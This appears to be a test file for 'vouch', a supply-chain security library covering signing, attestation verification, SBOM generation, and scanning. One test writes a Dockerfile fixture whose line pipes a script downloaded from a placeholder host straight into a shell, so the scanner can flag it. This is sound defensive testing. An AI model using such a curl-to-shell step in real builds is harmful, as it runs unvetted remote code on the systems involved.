import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import * as vouch from '../src/index.ts';
import { SHARED } from './shared.ts';

test('the library alone signs, stores and verifies a Statement about an artifact', async () => {
  const pair = vouch.generateKeyPair('ed25519', undefined);
  const key = vouch.loadSigningKey(pair.privateKeyPem, 'mem');
  const digest = vouch.digestBytes('artifact bytes');
  const statement = vouch.makeStatement([{ name: 'a.bin', digest }], 'https://example.com/p/v1', {
    ok: true,
  });
  const bundle = await vouch.signStatement(statement, { mode: 'key', key });
  const store = new vouch.DirectoryStore(join(mkdtempSync(join(tmpdir(), 'vouch-lib-')), '.vouch'));
  const entry = await store.put(Buffer.from(JSON.stringify(bundle)));
  const found = await store.find(`sha256:${digest.sha256}`);
  assert.deepEqual(
    found.map((e) => e.id),
    [entry.id],
  );

  const trust: vouch.TrustPolicy = {
    mode: 'key',
    keys: [vouch.loadVerificationKey(pair.publicKeyPem, 'pub')],
  };
  const candidates = [{ source: 'store', json: (await store.read(entry.id)).toString() }];
  const ok = vouch.verifyArtifact({ sha256: digest.sha256 as string, candidates, trust });
  assert.equal(ok.ok, true);
  assert.equal(ok.bundles[0]?.statement?.predicateType, 'https://example.com/p/v1');

  // The same bundle says nothing about another artifact.
  const other = vouch.digestBytes('other bytes').sha256 as string;
  const no = vouch.verifyArtifact({ sha256: other, candidates, trust });
  assert.equal(no.ok, false);
  assert.match(no.bundles[0]?.checks.find((c) => !c.ok)?.detail ?? '', /no subject/);

  // A policy sees only verified evidence: a required type that is absent fails.
  const typed = vouch.verifyArtifact({
    sha256: digest.sha256 as string,
    candidates,
    trust,
    policy: vouch.requireEvidence([vouch.SLSA_PROVENANCE_V1]),
  });
  assert.equal(typed.ok, false);
  assert.deepEqual(
    typed.policy.reasons.map((r) => r.ok),
    [true, false],
  );
});

test('the library exposes the SBOM producer and the policy engine as namespaces', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vouch-lib-sbom-'));
  const { writeFileSync } = await import('node:fs');
  writeFileSync(
    join(dir, 'package-lock.json'),
    JSON.stringify({
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { ms: '2.1.3' } },
        'node_modules/ms': { version: '2.1.3' },
      },
    }),
  );
  const result = await vouch.sbom.generateSbom(dir, {});
  const purls = result.components.map((c) => c.purl);
  assert.ok(purls.includes('pkg:npm/ms@2.1.3'), purls.join(' '));
  assert.equal(typeof vouch.policy.evaluatePolicy, 'function');
});

test('every producer is reachable from the library entry as a namespace, and works from there', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'vouch-lib-ns-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));

  // scan: a Dockerfile that pipes a download into a shell is a finding.
  writeFileSync(
    join(dir, 'Dockerfile'),
    'FROM debian:12\nRUN curl -fsSL https://x.example/i.sh | sh\n',
  );
  const scanned = await vouch.scan.scanPath(join(dir, 'Dockerfile'));
  assert.ok(
    scanned.findings.some((f) => f.line === 2),
    JSON.stringify(scanned.findings),
  );

  // repro: two files that differ in one byte are not identical.
  writeFileSync(join(dir, 'a.txt'), 'same\n');
  writeFileSync(join(dir, 'b.txt'), 'sane\n');
  assert.equal(
    (await vouch.repro.diffFiles(join(dir, 'a.txt'), join(dir, 'a.txt'))).identical,
    true,
  );
  assert.equal(
    (await vouch.repro.diffFiles(join(dir, 'a.txt'), join(dir, 'b.txt'))).identical,
    false,
  );

  // tee: a real Nitro attestation document is recognised as one.
  const nitro = Buffer.from(
    readFileSync(join(SHARED, 'vectors', 'tee', 'nitro', 'nitro_attestation.b64'), 'utf8').trim(),
    'base64',
  );
  assert.equal(vouch.tee.detectPlatform(nitro), 'nitro');

  // Subject naming and image digests, as the CLI does them.
  assert.equal(vouch.subjectNameOf(join(dir, 'sub', 'x.bin'), dir), 'sub/x.bin');
  assert.equal(vouch.subjectNameOf('/elsewhere/x.bin', dir), 'x.bin');
  assert.equal(vouch.parseImageDigest(`sha256:${'ab'.repeat(32)}\n`, 'iid'), `${'ab'.repeat(32)}`);

  // vuln, report, oci: their main entry points are there.
  assert.equal(typeof vouch.vuln.matchComponents, 'function');
  assert.equal(typeof vouch.report.buildReport, 'function');
  assert.equal(typeof vouch.oci.RegistryClient, 'function');
});
